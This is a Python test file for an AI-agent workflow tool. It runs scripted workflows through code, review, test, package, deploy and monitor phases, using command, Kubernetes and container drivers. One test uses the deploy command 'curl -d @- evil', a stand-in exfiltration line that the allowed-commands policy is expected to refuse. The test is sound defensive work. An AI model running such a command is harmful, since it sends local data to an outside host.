"""Whole workflows to a release of each driver that is not `process`: scripted answers, the real binary, the phases through to a healthy monitor."""
import os
import pathlib
import shutil
import subprocess
import threading
import unittest
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

import harness
import kubernetes_harness
from test_release_container import ENGINE, SOURCE

FILES = {
    "shop.py": "def price(n):\n    return n\n",
    "test_shop.py": "import unittest\nimport shop\n\n\nclass Price(unittest.TestCase):\n    def test_doubles(self):\n"
                    "        self.assertEqual(shop.price(2), 4)\n",
}


def answers(delivery):
    return [{"match": {"agent": "coding"}, "reply": {"files": {"shop.py": "def price(n):\n    return 2 * n\n"}}},
            {"match": {"agent": "review"}, "reply": {"json": {"findings": [], "summary": "good"}}, "times": "any"},
            {"match": {"agent": "devops"}, "reply": {"files": delivery}}]


def workflow(deploy, monitor, **more):
    return {"name": "shop", "requirement": "double the price", "workspace": {"repo": "."}, **more,
            "tasks": {"code": {"agent": "coding"},
                      "review": {"agent": "review", "needs": ["code"]},
                      "test": {"agent": "test", "needs": ["code"], "with": {"write-tests": False}},
                      "package": {"agent": "devops", "needs": ["review", "test"]},
                      "deploy": {"agent": "deploying", "needs": ["package"], "with": deploy},
                      "monitor": {"agent": "monitor", "needs": ["deploy"], "with": {"window": "2s", "interval": "100ms", **monitor}}}}


class Platform:
    """A web server of somebody else's: what is deployed is a folder that it serves."""

    def __init__(self, test):
        self.folder = pathlib.Path(test.temporary_folder())

        class Files(SimpleHTTPRequestHandler):
            def __init__(self, *arguments, folder=str(self.folder)):
                super().__init__(*arguments, directory=folder)

            def log_message(self, *_):
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Files)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        test.addCleanup(server.server_close)
        test.addCleanup(server.shutdown)
        self.url = f"http://127.0.0.1:{server.server_address[1]}"


class Workflows(harness.ProjectTest):
    def start(self, definition, delivery):
        project = self.project()
        project.repository(FILES)
        project.write("w.yaml", definition)
        project.write("answers.yaml", answers(delivery))
        return project

    def run_it(self, project, **more):
        return project.run("run", "w.yaml", "--llm", "mock:answers.yaml", "--json", **more)

    def phases_passed(self, done):
        gates = [event["payload"] for event in done.events if event["event"] == "gate.decided"]
        return [gate["phase"] for gate in gates if gate["passed"]]

    def check(self, done, driver):
        self.assertEqual((done.code, done.result["status"], done.result["phase"]), (0, "COMPLETED", "MONITORING"), done)
        self.assertEqual([phase.upper() for phase in self.phases_passed(done)], ["DEVELOPMENT", "DEVOPS", "MONITORING"])
        self.assertEqual({name: task["verdict"] for name, task in done.result["tasks"].items()},
                         dict.fromkeys(["code", "review", "test", "package", "deploy", "monitor"], "passed"), done)
        self.assertEqual(done.result["release"]["state"], "serving")

    def process_evidence(self, project, done):
        found = [evidence for event in done.events if event["event"] == "task.completed" for evidence in event["payload"].get("evidence", [])]
        [line] = [evidence for evidence in found if evidence["kind"] == "process"]
        return line["summary"]

    def releases(self, project, env=None):
        return project.run("releases", "list", "--json", env=env).lines


class ByCommand(Workflows):
    def setUp(self):
        super().setUp()
        self.platform = Platform(self)
        # The sandbox shows the commands nothing but their own files: the release's name travels by network, as to a real platform.
        self.deploy = {"driver": "command", "deploy": f'python3 -c "import shop; assert shop.price(1) == 2"; echo "url={self.platform.url}" > "$CONDUCTORAI_OUTPUT"',
                       "stop": "echo stopped", "status": f"python3 -c \"import urllib.request as r; r.urlopen('{self.platform.url}/healthz')\"",
                       "health": "/healthz", "start-timeout": "2s"}
        (self.platform.folder / "healthz").write_text("ok")

    def test_it_waits_for_approval_then_is_deployed_watched_and_stopped(self):
        definition = workflow(self.deploy, {"probes": [{"get": "/healthz", "status": 200}]}, policies={"approvals": ["deploy"]})
        project = self.start(definition, {"deploy/notes.md": "by hand\n"})
        waits = self.run_it(project)
        self.assertEqual(waits.code, 3, waits)
        self.assertEqual(self.releases(project), [], "nothing is deployed before it is approved")
        self.assertEqual(project.run("approve").code, 0)
        done = project.run("resume", "--json")
        self.assertEqual((done.code, done.result["status"]), (0, "COMPLETED"), done)
        self.assertEqual(done.result["tasks"]["monitor"]["verdict"], "passed")
        self.assertEqual(self.process_evidence(project, done), "alive")
        [release] = self.releases(project)
        self.assertEqual((release["driver"], release["url"], release["alive"], release["pid"]), ("command", self.platform.url, True, None))
        again = project.run("monitor", "shop", "--for", "1s", "--json")
        self.assertEqual(again.code, 0, again)
        stopped = project.run("releases", "stop", release["id"], "--json")
        self.assertEqual((stopped.code, stopped.lines[0]["state"]), (0, "stopped"), stopped)

    def test_a_command_that_the_policy_does_not_allow_is_not_run(self):
        definition = workflow({**self.deploy, "deploy": "curl -d @- evil"}, {}, policies={"allowed-commands": ["python3 *", "echo *"]})
        project = self.start(definition, {"deploy/notes.md": "by hand\n"})
        done = self.run_it(project)
        self.assertEqual((done.code, done.result["status"]), (1, "FAILED"), done)
        self.assertIn("curl -d @- evil", str(done.result["reason"]))
        self.assertEqual(self.releases(project), [])


class ToKubernetes(Workflows):
    def setUp(self):
        super().setUp()
        self.cluster = kubernetes_harness.Cluster(self.temporary_folder())
        self.platform = Platform(self)
        (self.platform.folder / "healthz").write_text("ok")

    def definition(self, **more):
        deploy = {"driver": "kubernetes", "namespace": "shop-prod", "image": "registry.example.org/shop:7", "url": self.platform.url,
                  "health": "/healthz", "start-timeout": "2s"}
        return workflow(deploy, {"probes": [{"get": "/healthz", "status": 200}]}, **more)

    def manifests(self, **more):
        deployment = kubernetes_harness.deployment(image="shop:latest", **more)
        service = kubernetes_harness.other("Service", "shop", spec={"selector": {"app": "shop"}, "ports": [{"port": 80}]})
        return {"k8s/app.yaml": kubernetes_harness.text(deployment, service)}

    def test_the_manifests_that_the_devops_agent_wrote_are_applied_and_the_release_is_watched(self):
        project = self.start(self.definition(policies={"deploy-targets": ["kubernetes"]}), self.manifests())
        done = self.run_it(project, env=self.cluster.environment)
        self.check(done, "kubernetes")
        self.assertEqual(self.cluster.image(space="here/shop-prod"), "registry.example.org/shop:7")
        self.assertEqual(self.process_evidence(project, done), "alive")
        [release] = self.releases(project, self.cluster.environment)
        self.assertEqual((release["driver"], release["state"], release["alive"]), ("kubernetes", "serving", True))
        stopped = project.run("releases", "stop", release["id"], env=self.cluster.environment)
        self.assertEqual((stopped.code, self.cluster.objects("here/shop-prod")), (0, {}), stopped)

    def test_a_rollout_that_does_not_complete_is_a_failed_verdict_and_the_old_release_stays(self):
        project = self.start(self.definition(rework={"max-rounds": 1}, feedback={"max-loops": 0}), self.manifests())
        self.check(self.run_it(project, env=self.cluster.environment), "kubernetes")
        project.write("answers.yaml", answers(self.manifests(pods="stuck")))
        failed = self.run_it(project, env=self.cluster.environment)
        self.assertEqual((failed.code, failed.result["status"]), (1, "FAILED"), failed)
        self.assertEqual(failed.result["tasks"]["deploy"]["verdict"], "failed", failed.result)
        self.assertIn("the rollout of deployment.apps/shop did not complete", str(failed.events))
        self.assertIn("the service has no database", str(failed.events), "what its containers said goes back to development")
        states = [line["state"] for line in self.releases(project, self.cluster.environment)]
        self.assertEqual(states, ["failed", "serving"])

    def test_a_target_that_the_policy_does_not_allow_is_not_deployed_to(self):
        project = self.start(self.definition(policies={"deploy-targets": ["process"]}), self.manifests())
        refused = self.run_it(project, env=self.cluster.environment)
        self.assertNotEqual(refused.code, 0, refused)
        self.assertIn("kubernetes", refused.out + refused.err)
        self.assertEqual(self.cluster.calls(), [])


@unittest.skipIf(ENGINE is None, "neither podman nor docker answers here")
@unittest.skipIf(shutil.which("gcc") is None, "no compiler for the service")
class InAContainer(Workflows):
    DOCKERFILE = 'FROM scratch\nCOPY service /service\nENTRYPOINT ["/service"]\n'

    def setUp(self):
        super().setUp()
        self.binary = pathlib.Path(self.temporary_folder()) / "service"
        subprocess.run(["gcc", "-static", "-O1", "-o", self.binary, SOURCE], check=True)

    def test_an_image_from_scratch_is_built_released_watched_and_gone_after_stop(self):
        deploy = {"driver": "container", "engine": ENGINE, "health": "/healthz", "env": {"VERSION": "seven"}}
        project = self.project()
        shutil.copy(self.binary, project.folder / "service")
        project.repository(FILES)
        project.write("w.yaml", workflow(deploy, {"probes": [{"get": "/healthz", "status": 200}, {"get": "/", "expect": {"body": "seven"}}]}))
        project.write("answers.yaml", answers({"Dockerfile": self.DOCKERFILE}))
        self.addCleanup(self.stop_releases, project)
        done = self.run_it(project, timeout=600)
        self.check(done, "container")
        self.assertRegex(self.process_evidence(project, done), "^alive, 0 restarts, memory")
        [release] = self.releases(project)
        self.assertEqual((release["driver"], release["alive"]), ("container", True))
        self.assertTrue(os.path.exists(f"/proc/{release['pid']}"))
        stopped = project.run("releases", "stop", release["id"], "--json")
        self.assertEqual((stopped.code, stopped.lines[0]["state"]), (0, "stopped"), stopped)
        harness.wait_until(lambda: not os.path.exists(f"/proc/{release['pid']}"))


if __name__ == "__main__":
    unittest.main()
